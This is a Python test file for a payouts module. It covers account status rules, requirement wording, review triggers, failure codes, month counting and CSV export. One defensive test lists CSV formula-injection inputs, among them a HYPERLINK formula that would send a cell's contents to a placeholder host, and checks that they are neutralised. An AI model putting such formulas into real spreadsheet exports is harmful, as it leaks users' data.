"""The pure rules of payouts: how an account stands, words, second looks, months and lines for spreadsheets."""

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domains.payments.types import AccountKind, Posting
from app.domains.payouts import policies
from app.domains.payouts.types import AccountStatus, FailureCode, ReviewReason
from app.providers.payments.port import Capability, Reason
from tests.domains.payouts.payees import READY

FRESH: dict[str, Any] = {
    "details_submitted": False,
    "payouts_enabled": False,
    "transfers": Capability.INACTIVE,
    "past_due": ("external_account",),
    "disabled_reason": "requirements.past_due",
}
BLOCKED: dict[str, Any] = {"payouts_enabled": False, "transfers": Capability.INACTIVE}


@pytest.mark.parametrize(
    ("changes", "status"),
    [
        ({}, AccountStatus.ENABLED),
        (FRESH, AccountStatus.INCOMPLETE),
        ({"deauthorised": True} | FRESH, AccountStatus.DISCONNECTED),
        (BLOCKED | {"transfers": Capability.PENDING}, AccountStatus.PENDING),
        (BLOCKED | {"pending_verification": ("individual.verification.document",)}, AccountStatus.PENDING),
        (BLOCKED | {"disabled_reason": "requirements.pending_verification"}, AccountStatus.PENDING),
        (BLOCKED | {"disabled_reason": "under_review"}, AccountStatus.PENDING),
        (BLOCKED | {"currently_due": ("individual.id_number",)}, AccountStatus.RESTRICTED),
        (BLOCKED | {"past_due": ("external_account",)}, AccountStatus.RESTRICTED),
        ({"disabled_reason": "rejected.fraud"}, AccountStatus.RESTRICTED),
        ({"payouts_enabled": False}, AccountStatus.PENDING),
        ({"currently_due": ("individual.id_number",)}, AccountStatus.ENABLED),  # due one day, works today
        ({"charges_enabled": False}, AccountStatus.ENABLED),  # we ask for transfers only
    ],
)
def test_how_an_account_stands_follows_from_the_account_alone(changes: dict[str, Any], status: AccountStatus) -> None:
    assert policies.status_of(replace(READY, **changes)) is status
    assert policies.status_of(None) is AccountStatus.NONE


@given(
    st.builds(
        replace,
        st.just(READY),
        payouts_enabled=st.booleans(),
        transfers=st.sampled_from(Capability),
        details_submitted=st.booleans(),
        past_due=st.sampled_from([(), ("external_account",)]),
        currently_due=st.sampled_from([(), ("individual.dob.day",)]),
        pending_verification=st.sampled_from([(), ("individual.verification.document",)]),
        disabled_reason=st.sampled_from([None, "requirements.past_due", "under_review", "rejected.other"]),
        deauthorised=st.booleans(),
    )
)
def test_no_account_is_enabled_that_the_payment_service_does_not_pay(account: Any) -> None:
    if policies.status_of(account) is AccountStatus.ENABLED:
        assert account.payouts_enabled
        assert account.transfers is Capability.ACTIVE
        assert account.details_submitted
        assert not (account.past_due)
        assert not (account.disabled_reason)
        assert not (account.deauthorised)


def test_what_is_missing_is_said_in_words_and_once() -> None:
    names = ("individual.dob.day", "individual.dob.month", "external_account", "person_1Qx.id_number", "new_thing.date")
    assert policies.requirements_in_words(names) == (
        "Your date of birth.",
        "A bank account to be paid to.",
        "Your national identification number.",
        "New thing date.",
    )


def test_first_payouts_and_those_to_another_bank_are_looked_at_twice() -> None:
    assert policies.review_reason(None, "b", is_first=True) is ReviewReason.FIRST_PAYOUT
    assert policies.review_reason("a", "b", is_first=False) is ReviewReason.BANK_CHANGED
    assert policies.review_reason("b", "b", is_first=False) is None
    assert policies.review_reason(None, None, is_first=False) is ReviewReason.BANK_CHANGED  # none is trusted


def test_every_refusal_has_a_code_and_every_code_a_sentence() -> None:
    assert {policies.failure_of(reason) for reason in Reason} == set(FailureCode)
    assert len({code.sentence for code in FailureCode}) == len(FailureCode)


def test_a_reference_changes_only_after_a_refusal() -> None:
    assert [policies.transfer_reference("pay_1", attempt) for attempt in (1, 2, 3)] == ["pay_1", "pay_1:2", "pay_1:3"]
    assert policies.account_reference("pac_1", 2) == "pac_1:2"


@pytest.mark.parametrize(
    "hostile",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", '=HYPERLINK("http://x.example?"&A1,"x")'],
)
def test_no_course_title_becomes_a_formula(hostile: str) -> None:
    text = policies.csv_text([("course", "amount"), (policies.defused(hostile), policies.decimal_text(-305))])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == [f"'{hostile}", "-3.05"]


@given(st.lists(st.tuples(st.text(), st.text()), min_size=1))
def test_lines_are_rfc_4180(rows: list[tuple[str, str]]) -> None:
    text = policies.csv_text(rows)
    assert text.endswith("\r\n")
    assert [tuple(row) for row in csv.reader(io.StringIO(text, newline=""))] == rows


@given(st.dates(date(2001, 1, 1), date(2098, 12, 31)), st.integers(-24, 24))
def test_months_are_counted_over_years(day: date, count: int) -> None:
    first = day.replace(day=1)
    before = policies.months_before(first, count)
    assert (first.year - before.year) * 12 + first.month - before.month == count
    assert policies.months_before(before, -count) == first


def _posting(kind: str, account: AccountKind, cents: int, at: datetime) -> Posting:
    return Posting("e", kind, "r", account, cents, "usd", at, None)


def test_a_month_begins_at_the_persons_midnight() -> None:
    late = datetime(2026, 11, 30, 23, 30, tzinfo=UTC)  # the first of December in Berlin
    postings = [
        _posting("allocate", AccountKind.PENDING, 17430, late),
        _posting("release", AccountKind.PENDING, -8715, late),
        _posting("release", AccountKind.RELEASABLE, 5000, late),
        _posting("release", AccountKind.OWED, 3715, late),  # pays a debt
        _posting("refund", AccountKind.PENDING, -4000, late),
        _posting("payout", AccountKind.RELEASABLE, -5000, late),
        _posting("payout", AccountKind.IN_PAYOUT, 5000, late),
        _posting("payout_paid", AccountKind.IN_PAYOUT, -5000, late),
    ]
    (month,) = policies.months_of(postings, ZoneInfo("Europe/Berlin"))
    assert (month.first, month.earned_cents, month.released_cents) == (date(2026, 12, 1), 17430, 8715)
    assert (month.taken_back_cents, month.paid_out_cents) == (4000, 5000)
